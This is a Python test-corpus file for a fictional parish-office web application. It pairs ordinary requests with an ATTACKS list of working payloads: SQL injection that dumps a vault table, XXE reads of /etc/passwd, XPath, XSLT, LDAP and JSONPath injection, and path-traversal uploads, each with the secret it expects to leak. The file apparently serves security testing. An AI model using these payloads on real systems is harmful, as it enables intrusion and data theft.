"""Registers, directories and forms of an office."""

import base64

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.thirteenth import (
    HOWTO,
    MARKUP,
    MOAN,
    PERSONS,
    PLACES,
    SOURCE,
    call,
    filled,
    get,
    http,
    one,
    pool,
    post,
    sqs,
)

NEEDS = ()
PIN = "parish-pin-9921"
VAULT = "parish-vault-3080"


def _at(path: str, **query: str) -> dict[str, object]:
    return call("GET", path, query=query)


def _web(path: str, **query: str) -> dict[str, object]:
    event = http("GET", path, query=query)
    return event | {"routeKey": f"GET {path}"}


def _xml(text: str) -> dict[str, object]:
    return call("POST", "/xml", text, headers={"Content-Type": "application/xml"})


def _page(text: str) -> dict[str, object]:
    return call("POST", "/page", text, headers={"Content-Type": "text/html"})


def _form(*files: tuple[str, str]) -> dict[str, object]:
    body = "".join(
        f'--XX\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: text/plain\r\n\r\n{text}\r\n'
        for name, text in files
    )
    event = http(
        "POST",
        "/upload",
        base64.b64encode((body + "--XX--\r\n").encode()).decode(),
        headers={"content-type": "multipart/form-data; boundary=XX"},
    )
    return event | {"isBase64Encoded": True}


def _css(html: str, selector: str) -> dict[str, object]:
    return post("/select", html=html, selector=selector)


REQUESTS = {
    "rest_api": [
        _at("/people"),
        _at("/people", name="O'Brien", order="village"),
        _at("/people", name="x'; drop table people; --", order="name desc"),
        _at("/people/2"),
        _at("/people/2%20or%201"),
        call("POST", "/people", {"name": PERSONS[6], "note": MOAN, "village": PLACES[2]}),
        call("POST", "/people", {"note": "no name"}),
        _at("/villages/Upper%20End/people"),
        _at("/villages/Newtown-2%20%28north%29/people"),
    ],
    "http_api": [
        _web("/events"),
        _web("/events", kind="choir"),
        _web("/events", kind="it's; --"),
        http("POST", "/feedback", {"text": MARKUP, "from": PERSONS[4]}),
        http("POST", "/feedback", {"text": HOWTO}),
    ],
    "fast_api": [
        _web("/search", q="O'B"),
        _web("/search", q="' or 1=1 --", limit="3", village="St. John's"),
        _web("/search", q="50%", limit="many"),
        _web("/export/name"),
        _web("/export/born", village="St. John's"),
        _web("/export/phone"),
        http("POST", "/gifts", {"donor": PERSONS[2], "amount": 12.5, "purpose": "roof; it's old -- $5"}),
        http("POST", "/gifts", {"donor": "", "amount": -1}),
    ],
    "parse_lxml": [
        _xml("<a><b>it's &lt;5&gt; &amp; more</b><c x='1;2'>-- 李</c></a>"),
        _xml('<?xml version="1.0"?><!-- a -- b --><a/>'.replace("a -- b", "a, b")),
        _xml("<r><![CDATA[<script>x && y</script>; DROP]]></r>"),
        _xml("<open>"),
        _xml('<!DOCTYPE n [<!ENTITY co "O\'Brien &#38; Co.">]><n>&co;</n>'),
    ],
    "parse_lxml_safe": [
        _xml("<a><b>it's</b></a>"),
        _xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>t&x;</a>'),
        _xml("<p>" + MOAN.replace("<", "&lt;").replace("&", "&amp;") + "</p>"),
    ],
    "parse_sax": [
        _xml('<reg><p n="O\'Brien">50% &amp; more</p><p/></reg>'),
        _xml("<r><![CDATA[a < b; -- c]]></r>"),
        _xml("<r>&nope;</r>"),
        _xml("<p>Ünïcödé 李 &#128512;</p>"),
    ],
    "parse_tree": [
        sqs("<order><id>5</id><to>O'Brien &amp; Co; x</to></order>"),
        sqs("no xml -- sorry", "<a><b> x </b><c/></a>"),
        sqs("<?xml version='1.0'?><a><b><![CDATA[<i>1=1</i>]]></b></a>"),
    ],
    "find_person": [
        get("/p", name="Drop; Table -- jr"),
        get("/p", name="Aoife O'Brien"),
        get("/p", name="J. Weiß [2] / (x) @home"),
        call("GET", "/p"),
    ],
    "find_person_variable": [
        get("/p", name='Jörg "J" Weiß'),
        get("/p", name='" or 1=1 or "'),
        get("/p", name="Aoife O'Brien"),
    ],
    "find_tree": [one("/r", role="member"), one("/r", role="warden"), one("/r", role="vice-warden (acting)")],
    "make_xml": [
        post("/c", name="Aoife O'Brien"),
        post("/c", name='Zoë "Zed"; -- 100%'),
        post("/c", name="Weiß &amp; Sons"),
        post("/c", name="5 < 6"),
    ],
    "make_xml_escaped": [
        post("/c", name=MARKUP, by='O\'Brien "x"'),
        post("/c", name="</name><valid>yes</valid>"),
        post("/c", name="]]> &lol; <!DOCTYPE", by=SOURCE),
    ],
    "make_xml_tree": [
        {"people": [{"name": MARKUP, "attributes": {"note": "a\"b'c<d>", "n": 5}}, {"name": PERSONS[5]}]},
        {"people": [{"name": SOURCE}]},
        {"people": []},
    ],
    "stylesheet": [
        post("/s", title="People of Upper End (it's 2026)"),
        post("/s", title="Total -- 100%; {x} $n"),
        post("/s", title="R &amp; D"),
        post("/s", title="a < b"),
    ],
    "ldap_find": [
        get("/l", q="Jörg*"),
        get("/l", q="Mia \\28L\\29"),
        get("/l", q="O'Brien, A.; -- x"),
        get("/l", q="*", all="1"),
    ],
    "ldap_login": [
        filled("/l", user="joerg", password="ldap-2"),
        filled("/l", user="joerg", password="wr0ng; --!"),
        filled("/l", user="o'brien", password="x&y=z|#"),
    ],
    "ldap_escaped": [
        get("/l", q="(Li)"),
        get("/l", q="*)(uid=*"),
        get("/l", q="O'Brien"),
        get("/l", q='a, b+c="d"; \\'),
    ],
    "json_path": [
        get("/j", path="$.groups[*].name"),
        get("/j", path="groups[0].people[1]"),
        get("/j", path="$..fee"),
        get("/j", path="$.groups[?"),
    ],
    "json_path_filter": [
        get("/j", name="choir"),
        get("/j", name="bells; old"),
        get("/j", name="it's new -- 50% (x)"),
    ],
    "marshmallow_person": [
        post("/m", name=PERSONS[0], born="1990-05-01", mail="o'b@example.net"),
        post("/m", name="'; DROP TABLE people; --"),
        post("/m", born="yesterday", mail="x@", extra=1),
    ],
    "schema_form": [
        post("/s", name=PERSONS[5]),
        post("/s", name="R2; D2"),
        post("/s", age=-1, name="x"),
        post("/s", name="'--\";{}"),
    ],
    "clean_html": [
        _page(MARKUP + '<a href="javascript:x()">y</a><a href="/a?b=c&amp;d=e\'f">z</a>'),
        _page(HOWTO),
        _page("<style>a{b:url(//x)}</style><p>it's &copy; <<broken"),
    ],
    "select_html": [
        _css("<ul><li class='a'>it's</li><li>two; --</li></ul>", "li.a, li:nth-of-type(2)"),
        _css(MARKUP, "p > b, img[src^='/i']"),
        _css("<p>x</p>", "p[["),
    ],
    "cookies": [
        http("GET", "/", cookies=["theme=dark", "sid=a.b-c_d"]),
        http("GET", "/", cookies=['theme="it\'s light; blue"']),
        http("GET", "/"),
    ],
    "upload": [
        _form(("baptism 1987 (copy).txt", MOAN)),
        _form(("O'Brien; DROP.csv", "a,b\n1,2"), ("2026/may..draft.md", HOWTO)),
        _form(("été -- 5€.txt", "x")),
    ],
    "custom_message": [
        pool("CustomMessage_SignUp", "niamh", name=PERSONS[2], email="n@example.net"),
        pool("CustomMessage_ForgotPassword", "o'b", name=MARKUP),
        pool("CustomMessage_SignUp", "x"),
    ],
    "pre_sign_up": [
        pool("PreSignUp_SignUp", "a", email="O'Brien+x@parish.net"),
        pool("PreSignUp_SignUp", "a", email="x@example.net\nBcc: y@example.org"),
        pool("PreSignUp_ExternalProvider", "Google_1", name="x; --"),
    ],
}

_PASSWD = "root:x:0:0"

ATTACKS = [
    Attack(
        "SQL, order",
        "rest_api",
        _at("/villages/x'%20union%20select%20code%20from%20vault%20--/people"),
        VAULT,
    ),
    Attack(
        "SQL, path",
        "rest_api",
        _at(
            "/villages/'+or+name+glob+(select+code+from+vault)+or+village+in+(select+'Upper+End')+union+select+hex(code)+from+vault+--+/people"
        ),
        "7061726973682D",
    ),
    Attack(
        "SQL, order",
        "rest_api",
        _at("/people", order="name limit (select length(code) - 16 from vault) offset 2"),
        '[{\\"name\\":\\"Mia -- Li\\",\\"village\\":\\"Upper End\\"}]',
    ),
    Attack("SQL, column", "fast_api", _web("/export/(select code from vault)"), VAULT),
    Attack(
        "SQL, column",
        "fast_api",
        _web("/export/(select group_concat(sql, char(10)) from sqlite_master) as x"),
        "CREATE TABLE vault",
    ),
    Attack(
        "XXE", "parse_lxml", _xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), _PASSWD
    ),
    Attack(
        "XXE",
        "parse_lxml",
        _xml(
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d "<!ENTITY x SYSTEM \'/etc/passwd\'>"> %d;]><a>&x;</a>'
        ),
        _PASSWD,
    ),
    Attack(
        "XXE",
        "parse_lxml",
        _xml(
            '<!DOCTYPE a PUBLIC "-//x" "" [<!ENTITY p PUBLIC "y" "file://localhost/etc/passwd">]><a><b>&p;</b></a>'
        ),
        _PASSWD,
    ),
    Attack("XXE", "parse_sax", _xml('<!DOCTYPE a [<!ENTITY x SYSTEM "/etc/passwd">]><a>&x;</a>'), _PASSWD),
    Attack(
        "XXE",
        "parse_sax",
        _xml('<!DOCTYPE a [<!ENTITY pw SYSTEM "file:///etc/../etc/passwd">]><a n="1">start &pw; end</a>'),
        "start " + _PASSWD,
    ),
    Attack("XPath", "find_person", get("/p", name='x" or @role="warden" or "a"="b'), PIN),
    Attack("XPath", "find_person", get("/p", name='"] | //person[pin or "'), PIN),
    Attack("XPath", "find_person", get("/p", name='x" or starts-with(pin, "parish") or "'), PIN),
    Attack("XPath", "find_tree", one("/r", role="member']/../person[@role!='zz"), 'Brien\\", \\"J'),
    Attack("XML", "make_xml", post("/c", name="x</name><valid>yes</valid><name>y"), "yes"),
    Attack("XML", "make_xml", post("/c", name="A</name><role>warden</role><!-- -->" + "<name>"), "warden"),
    Attack("XSLT", "stylesheet", post("/s", title='<xsl:value-of select="//pin"/>'), PIN),
    Attack(
        "XSLT",
        "stylesheet",
        post("/s", title="<xsl:for-each select='//person'>[<xsl:value-of select='pin'/>]</xsl:for-each>"),
        "[" + PIN + "]",
    ),
    Attack("LDAP", "ldap_login", filled("/l", user="aoife)(uid=*", password="*"), "Aoife"),
    Attack("LDAP", "ldap_find", get("/l", q="*)(userPassword=ldap-3"), '[\\"Mia (Li)\\"]'),
    Attack("LDAP", "ldap_login", filled("/l", user="*", password="*"), "Aoife"),
    Attack("LDAP", "ldap_login", filled("/l", user="aoife)(|(sn=x", password="wrong)(cn=*)"), "Aoife"),
    Attack(
        "JSONPath",
        "json_path_filter",
        get("/j", name='x")] | $.private[?(@.name != "'),
        "code-of-the-safe-11",
    ),
    Attack("path, upload", "upload", _form(("../register.txt", "mine")), "register replaced"),
    Attack("path, upload", "upload", _form(("x/../../register.txt", "mine\n")), "register replaced"),
]
